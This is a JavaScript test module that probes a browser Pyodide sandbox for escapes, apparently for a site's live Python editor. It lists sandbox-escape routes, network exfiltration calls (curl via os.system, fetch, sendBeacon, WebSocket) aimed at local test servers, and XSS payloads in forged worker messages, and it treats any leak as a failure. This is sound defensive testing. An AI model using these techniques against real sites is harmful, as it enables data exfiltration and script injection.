// Code that tries to get out of the worker: to a network, to the page, to storage.  Two servers
// count what arrives, the page's own host among them; `hostile(tab, host)` says what got out.

import { createServer } from "node:http";

/** Ways to make JavaScript of text, in Python; each is given `code`. */
const ROUTES = [
  "run_js(code)", "js.eval(code)", "js.Function.new(code)()", "js.Function(code)()",
  "[].__class__ and js.Array.new().constructor.constructor(code)()",
  "to_js([]).constructor.constructor.new(code)()", "create_proxy(print).constructor.constructor(code)()",
  "js.Object.getPrototypeOf(pyodide_js.runPythonAsync).constructor.new(code)()",
  "js.Reflect.construct(js.Function, to_js([code]))()", "js.JSON.constructor.constructor(code)()",
  "js.setTimeout(code, 0)", "js.setInterval(code, 10)", "pyodide_js._module.constructor.constructor(code)()",
  "js.Promise.resolve(code).then(js.Function)", "js.Promise.resolve(code).then(js.eval)",
];
/** What that JavaScript does with an address. */
const SCRIPTS = [
  "import('URL')", "fetch('URL')", "fetch('URL', {mode: 'no-cors', method: 'POST', body: 'x'})",
  "(()=>{const x=new XMLHttpRequest();x.open('GET','URL',false);x.send()})()", "new WebSocket('URL'.replace('http','ws'))",
  "new EventSource('URL')", "importScripts('URL')", "new Worker('URL')", "new Worker('data:text/javascript,import(%22URL%22)')",
  "new SharedWorker('URL')", "navigator.sendBeacon('URL','x')", "location='URL'", "new WebTransport('URL'.replace('http','https'))",
  "import('data:text/javascript,import(\\'URL\\')')", "WebAssembly.compileStreaming(fetch('URL'))", "new FontFace('x','url(URL)').load()",
];
/** The same from Python: what is there without a line of JavaScript. */
const PYTHON = [
  "js.fetch(url)", "js.XMLHttpRequest.new()", "js.WebSocket.new(url)", "js.EventSource.new(url)", "js.importScripts(url)", "js.Worker.new(url)",
  "js.navigator.sendBeacon(url)", "js.Response.redirect(url)", "js.WebAssembly.compileStreaming(js.Response.new(url))",
  "js.loadPyodide(to_js({'indexURL': url}, dict_converter=js.Object.fromEntries))",
  "js.loadPyodide(to_js({'indexURL': url, 'packageBaseUrl': url, 'lockFileContents': {'info': pyodide_js.lockfile.info.to_py(), 'packages': {}}}, dict_converter=js.Object.fromEntries))",
  "js._createPyodideModule(to_js({'locateFile': lambda *a: url}, dict_converter=js.Object.fromEntries))",
  "pyodide_js.loadPackage(url + '.whl')", "pyodide_js.loadPackage(url + '.js')", "pyodide_js._api.loadBinaryFile(url)",
  "pyodide_js._api.packageManager.loadPackage(url + '.whl')", "pyodide_js._api.loadDynlib(url + '.so')",
  "pyodide_js._module.FS.createPreloadedFile('/', 'pre', url, True, False)",
  "pyodide_js._module.asyncLoad(url)", "pyodide_js._module.readAsync(url)", "pyodide_js._module.loadDynamicLibrary(url)",
  "import urllib.request; urllib.request.urlopen(url, timeout=2)",
  "import http.client; c = http.client.HTTPConnection(host, port, timeout=2); c.request('GET', '/python')",
  "import socket; s = socket.create_connection((host, port), 2); s.send(b'GET / HTTP/1.0')",
  "import socket; s = socket.socket(); s.setblocking(False); s.connect((host, port))",
  "import ssl, socket; ssl.create_default_context().wrap_socket(socket.create_connection((host, port), 2))",
  "import pyodide.http as h; h.open_url(url)", "import pyodide.http as h; h.pyfetch(url).send(None)", "import pyodide.http as h; h.pyxhr.get(url)",
  "import micropip; micropip.install(url)", "import os; os.system('curl ' + url)", "import subprocess; subprocess.run(['curl', url])",
  "import ctypes; ctypes.CDLL(url)", "import webbrowser; webbrowser.open(url)", "import asyncio; asyncio.open_connection(host, port).send(None)",
  "fs = pyodide_js._module.FS; fs.mkdir('/idb'); fs.mount(fs.filesystems.IDBFS, js.Object.new(), '/idb'); fs.syncfs(False, print)",
  "pyodide_js.mountNativeFS('/native', js.Object.new())", "pyodide_js.useNodeSockFS()", "import pyodide_js as p; p.unpackArchive(url, 'zip')",
];
/** What must not be there at all. */
const NAMES = [
  "window", "document", "parent", "top", "opener", "frames", "localStorage", "sessionStorage", "indexedDB", "caches", "cookieStore", "navigator",
  "location", "BroadcastChannel", "fetch", "XMLHttpRequest", "WebSocket", "WebSocketStream", "EventSource", "importScripts", "Worker",
  "SharedWorker", "WebTransport", "RTCPeerConnection", "Notification", "FileReader", "FileReaderSync", "FileSystemHandle", "OffscreenCanvas",
  "Request", "Cache", "IDBFactory", "StorageManager", "createImageBitmap", "loadPyodide", "webkitRequestFileSystem",
];
/** What tries them all, and returns which names of the browser it reached. */
const CODE = `
import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

kept = []
def attempt(source, url, code=""):
    names = {"js": js, "pyodide_js": pyodide_js, "run_js": run_js, "to_js": to_js, "create_proxy": create_proxy}
    names |= {"url": url, "code": code, "host": host, "port": port}
    try:
        exec(source, names)
    except BaseException:
        pass
    kept.append(names)

for number, base in enumerate(bases):
    for source in python:
        attempt(source, f"{base}?leak={len(kept)}")
    for route in routes:
        for script in scripts:
            attempt(route, base, script.replace("URL", f"{base}?leak={len(kept)}"))

reached = {name for name in names_ if getattr(js, name, None) is not None}
for route in routes:
    for name in names_:
        value = {"code": f"return typeof {name}"} if "onstructor" in route or "Function" in route else {"code": f"typeof {name}"}
        try:
            if eval(route, globals() | value) not in ("undefined", None):
                if "set" not in route and "then" not in route:
                    reached.add(name)
        except BaseException:
            pass
sorted(reached)
`;
/** What may end Python itself, and so comes last. */
const LAST = [
  "import pyodide_js\npyodide_js._module.FS.createLazyFile('/', 'lazy', URL, True, False)\nopen('/lazy').read()",
  "import js\njs.onmessage = js.postMessage",
  "import js\njs.close()",
];
/** Messages that pretend to be answers: whatever they say may only be shown. */
const FORGED = `
import js
from pyodide.ffi import to_js
markup = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
rows = [[markup, markup, markup, markup], [markup, "differs", markup, markup]]
for answer in ({"result": {"rows": rows, "seconds": 1.5}}, {"row": {"id": markup}}, {"error": markup}, {"ready": True}, {"broken": markup}):
    for number in [*range(1, 200), "constructor", "__proto__"]:
        js.postMessage(to_js({"id": number, **answer}, dict_converter=js.Object.fromEntries))
js.postMessage(None)
js.postMessage(to_js([1, 2]))
`;

/** Run Python in a page, once it is started, and return the rows that it gives within some time. */
const ran = (tab, code, patience = 60000) => tab.evaluate(`(async () => {
  await window.live.load("engine");
  const python = await window.live.python(() => {}), late = new Promise((go) => setTimeout(go, ${patience}, { rows: [["", "late", "", ""]] }));
  return (await Promise.race([late, python.ask("run", { session: "hostile", code: ${JSON.stringify(code)}, text: "" })])).rows;
})()`);

/** What gets out of a page of a tab; \`host\` is the server of the site, which counts as well. */
export const hostile = async (tab, host, path) => {
  const arrived = new Set(), wrong = [];
  const note = ({ url }) => { if (/leak|python/.test(url)) arrived.add(url); };
  const foreign = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" }).end("self.x=1");
  });
  foreign.on("connection", () => arrived.add("a connection to another host"));
  foreign.on("request", note);
  host.on("request", note);
  await new Promise((ready) => foreign.listen(0, "127.0.0.1", ready));
  const { port } = foreign.address();
  await tab.go(path);
  await tab.evaluate(`(window.localStorage.setItem("mine", "yes"), 0)`).catch(() => {});
  const page = await tab.evaluate("window.location.href"), bases = [`http://127.0.0.1:${port}/leak.js`, new URL("leak.js", page).href];
  bases.push(`http://127.0.0.1:${host.address().port}/leak.js`);
  const given = { bases: [...new Set(bases)], host: "127.0.0.1", port, python: PYTHON, routes: ROUTES, scripts: SCRIPTS, names_: NAMES };
  const known = `import json\nglobals().update(json.loads(${JSON.stringify(JSON.stringify(given))}))\n`;
  const rows = await ran(tab, known + CODE);
  const [, state, got] = rows.at(-1);
  if (state !== "new" || got.trim() !== "[]") wrong.push(`what runs reaches ${got.trim().split("\n").at(-1)}`);
  if (!(await tab.evaluate(`document.querySelector("iframe").contentDocument === null`))) wrong.push("what runs has the page's origin");
  for (const code of LAST) await ran(tab, code.replace("URL", `"${bases[0]}?leak=last"`), 2000).catch(() => {});
  await new Promise((go) => setTimeout(go, 1000)); // some of it comes late
  await tab.evaluate("(window.live.stop(), 0)");
  if (!(await tab.evaluate(`document.querySelector("article") !== null && window.location.href === ${JSON.stringify(page)}`)))
    wrong.push("what runs led the page elsewhere");

  // Through the page's own editor, as its answers are shown there.
  await tab.evaluate(`document.querySelector(".live-button").click()`);
  const status = `document.querySelector(".live-bar .live-status").textContent`;
  const until = async (expression) => {
    for (let i = 0; i < 600 && !(await tab.evaluate(expression)); i++) await new Promise((go) => setTimeout(go, 100));
  };
  await until(`/^[✓✗]/.test(${status})`);
  await tab.evaluate(`(document.querySelector(".live-code").value = ${JSON.stringify(FORGED)}, document.querySelector(".live-button").click())`);
  await until(`document.querySelector(".live-button").textContent === "Run"`);
  await new Promise((go) => setTimeout(go, 300));
  const [hacked, markup] = await tab.evaluate(`[Boolean(window.hacked), document.querySelectorAll(".live-out img, .live-out script, .live-bar img").length]`);
  if (hacked || markup) wrong.push("a forged answer becomes markup in the page");

  // Everything that was refused was heard of: it is no error of the page.
  await tab.evaluate("window.errors.splice(0)");
  tab.outside.splice(0);
  foreign.closeAllConnections();
  foreign.close();
  host.off("request", note);
  if (arrived.size) wrong.push(`what runs gets out: ${[...arrived].slice(0, 4).join(", ")} (${arrived.size})`);
  return wrong;
};
